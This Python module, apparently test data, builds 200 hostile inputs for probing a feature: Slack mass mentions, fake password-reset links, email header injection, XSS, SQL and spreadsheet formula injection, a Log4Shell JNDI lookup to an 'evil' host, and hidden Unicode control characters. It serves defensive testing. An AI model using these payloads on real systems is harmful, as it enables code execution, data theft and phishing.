"""Two hundred names that somebody might give a feature to do harm: mentions, links, headers, markup, control codes."""

_SLACK = ["<!channel>", "<!here|x>", "<!everyone>", "<@U012AB3CD>", "<#C012AB3CD>", "<!subteam^S012AB3CD>"]
_LINKS = [
    "<https://evil|x>",
    "<https://evil.example|Reset your password>",
    "https://evil.example/x",
    "HTTP://EVIL.EXAMPLE",
    "www.evil.example",
    "<mailto:evil@evil.example|write>",
    "[click](http://evil)",
    "![](http://evil/x.png)",
    "javascript://%0aalert(1)",
    "file:///etc/passwd",
    "//evil.example/x.js",
]
_HEADERS = [
    "a\r\nBcc: victim@example.com",
    "a\nSubject: other",
    "a\r\n\r\n<html>",
    "a\r\n.\r\nMAIL FROM:<x@y>",
    "a\rX-Evil: 1",
    "a\x85Bcc: victim@example.com",
    "a\u2028Bcc: victim@example.com",
    "=?utf-8?q?a=0d=0aBcc:_x@y?=",
]
_MARKUP = [
    "*bold* _it_ ~struck~ `code`",
    "```code```",
    "&lt;!channel&gt;",
    "&#60;script&#62;",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</pre><b>x</b>",
    '"><a href="http://evil">x</a>',
    "' OR 1=1 --",
    "=cmd|' /C calc'!A0",
    "{{7*7}}",
    "${jndi:ldap://evil/x}",
    "%0d%0aX: 1",
]
_HIDDEN = [
    "nul\0byte",
    "bidi \u202egnp.exe",
    "zero\u200bwidth",
    "\u2066isolate\u2069",
    "\ufeffmark",
    "tag \U000e0041",
    "\x1b[31mred",
    "\x07bell\x08\x7f",
    "\u2029paragraph",
    "private \ue000",
]
_LONG = ["x" * 10_000, "<" * 4_000, "&" * 3_000, "\U0001f4a5" * 2_000, "é" * 5_000, "a b " * 3_000]
_SEEDS = [*_SLACK, *_LINKS, *_HEADERS, *_MARKUP, *_HIDDEN, *_LONG]
_FRAMES = ["{}", "age {}", "{}\r\n{}", "\u202e{}<{}"]

HOSTILE = [frame.replace("{}", seed) for frame in _FRAMES for seed in _SEEDS][:200]
